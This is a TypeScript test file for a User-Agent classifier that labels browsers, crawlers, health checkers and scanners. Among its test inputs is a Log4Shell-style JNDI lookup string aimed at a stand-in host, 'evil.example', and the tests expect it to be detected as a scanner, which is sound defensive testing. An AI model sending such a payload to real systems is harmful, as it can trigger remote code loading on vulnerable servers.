import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createAgentReader } from '../../../src/core/observe/agent-family.ts';

const X11 = 'Mozilla/5.0 (X11; Linux x86_64)';
const WEBKIT = 'AppleWebKit/537.36 (KHTML, like Gecko)';
/** Agent, family, and whether it is a bot and a scanner. */
const AGENTS: readonly (readonly [string, string, boolean, boolean])[] = [
  [`${X11} ${WEBKIT} Chrome/131.0.0.0 Safari/537.36`, 'Chrome', false, false],
  [`${X11} ${WEBKIT} Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0`, 'Edge', false, false],
  [`${X11} ${WEBKIT} Chrome/131.0.0.0 Safari/537.36 OPR/116.0.0.0`, 'Opera', false, false],
  ['Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0', 'Firefox', false, false],
  [
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
    'Safari',
    false,
    false,
  ],
  ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Googlebot', true, false],
  [
    `Mozilla/5.0 ${WEBKIT}; compatible; GPTBot/1.2; +https://openai.com/gptbot) Chrome/131.0.0.0 Safari/537.36`,
    'GPTBot',
    true,
    false,
  ],
  ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 'Bingbot', true, false],
  ['kube-probe/1.31', 'kube-probe', true, false],
  ['ELB-HealthChecker/2.0', 'ELB-HealthChecker', true, false],
  ['Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)', 'UptimeRobot', true, false],
  ['SomeNewBot/1.0', 'other', true, false],
  ['curl/8.5.0', 'curl', false, false],
  ['Go-http-client/1.1', 'Go', false, false],
  ['python-requests/2.32.3', 'Python', false, false],
  ['okhttp/4.12.0', 'okhttp', false, false],
  ['Mozilla/5.0 zgrab/0.x', 'zgrab', true, true],
  ['sqlmap/1.8 (https://sqlmap.org)', 'sqlmap', true, true],
  ['\u0024{jndi:ldap://evil.example/a}', 'other', true, true],
  ['Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)', 'other', true, true],
  // Words that only hold a robot's name.
  ['Cubot Note 20', 'other', false, false],
  ['constructor', 'other', false, false],
];

for (const [agent, family, isBot, isScanner] of AGENTS) {
  test(`${agent} is ${family}`, () => {
    assert.deepEqual(createAgentReader()(agent), { family, isBot, isScanner });
  });
}

test('an agent that was seen before, and more agents than are kept, say the same', () => {
  const read = createAgentReader();
  const agents = Array.from({ length: 1_200 }, (_, index) => `app/${index}${index % 3 === 0 ? ' bot' : ''}`);

  for (const agent of [...agents, ...agents])
    assert.deepEqual(read(agent), { family: 'other', isBot: agent.endsWith('bot'), isScanner: false });
});

test('what stands behind the letters that are looked at counts for nothing', () => {
  assert.equal(createAgentReader()(`${'x'.repeat(400)} Googlebot`).family, 'other');
});
